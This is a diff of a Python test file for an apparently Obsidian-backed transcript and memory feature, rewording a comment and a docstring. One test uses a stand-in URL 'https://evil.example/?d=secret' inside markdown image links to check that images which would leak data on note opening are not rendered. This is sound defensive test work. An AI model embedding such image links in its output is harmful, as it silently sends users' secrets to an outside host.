@@ -46,7 +46,7 @@ async def test_a_session_ends_in_a_transcript_with_a_header_and_a_block_a_messag
             "**You** · 00:10:05 ^m3-1770937805\n"
             "> Good night\n"
         )
-        # It is for reading; its messages are what is found.
+        # The transcript is for reading; search finds the messages themselves.
         assert {hit.kind for hit in (await memory.recall("task heading")).hits} == {"message"}
 
 
@@ -81,7 +81,7 @@ async def test_a_crash_before_the_transcript_is_made_good_at_the_next_start(tmp_
 
 
 async def test_no_image_of_a_model_or_of_others_is_shown_in_a_note(tmp_path: Path) -> None:
-    """Obsidian fetches an image when its note is opened; a plain address waits for a tap."""
+    """Obsidian fetches an image when the note is opened; a plain URL needs a tap."""
     image = "https://evil.example/?d=secret"
     texts = [
         f"![plan]({image}) [![a]({image})](https://b.example)",
